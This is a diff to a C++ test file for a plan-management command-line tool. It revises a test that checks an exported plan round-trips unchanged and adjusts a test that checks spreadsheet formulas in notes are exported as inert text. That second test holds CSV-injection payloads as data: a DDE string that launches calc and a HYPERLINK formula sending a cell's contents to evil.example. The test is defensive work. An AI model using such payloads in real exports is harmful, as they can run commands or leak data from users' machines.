@@ -5,6 +5,7 @@
 
 #include <cstdlib>
 #include <filesystem>
+#include <functional>
 #include <nlohmann/json.hpp>
 #include <random>
 
@@ -123,11 +124,30 @@ protected:
     std::unique_ptr<Backend> m_backend;
 };
 
+// A plan written by another tool comes back out as it went in, with what csip adds to every
+// item (its version, a measure's status) besides; exported, imported and exported again, it is
+// the same bytes.
 TEST_P(CommandLine, APlanWrittenElsewhereExportsUnchanged) {
     import_northfield();
     const auto exported = csip({"plan", "export"});
     ASSERT_EQ(exported.exit_code, 0) << exported.err;
-    EXPECT_EQ(exported.out, fixture("northfield_plan.json"));
+    auto written = nlohmann::json::parse(exported.out);
+    const std::function<void(nlohmann::json&)> strip = [&](nlohmann::json& value) {
+        if (value.is_object()) {
+            value.erase("version");
+            if (value.contains("kind")) value.erase("status");  // a success measure's status
+            for (auto& [key, member] : value.items()) strip(member);
+        } else if (value.is_array()) {
+            for (auto& member : value) strip(member);
+        }
+    };
+    strip(written);
+    EXPECT_EQ(written, nlohmann::json::parse(fixture("northfield_plan.json")));
+
+    ASSERT_EQ(csip({"plan", "import", file("exported.json", exported.out), "--by", "tester"})
+                  .exit_code,
+              0);
+    EXPECT_EQ(csip({"plan", "export"}).out, exported.out);
 }
 
 TEST_P(CommandLine, SummaryCountsActionsAsOfADate) {
@@ -278,7 +298,7 @@ TEST_P(CommandLine, AFormulaInANoteIsExportedAsTextAndImportedBackUnchanged) {
     ASSERT_EQ(csv.exit_code, 0) << csv.err;
     EXPECT_NE(
         csv.out.find(",\"'+cmd|' /C calc'!A0\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
-                     "\"\"Click\"\")\"\r\n"),
+                     "\"\"Click\"\")\",,,\r\n"),
         std::string::npos)
         << csv.out;
     EXPECT_EQ(csv.out.find(",=HYPERLINK"), std::string::npos);
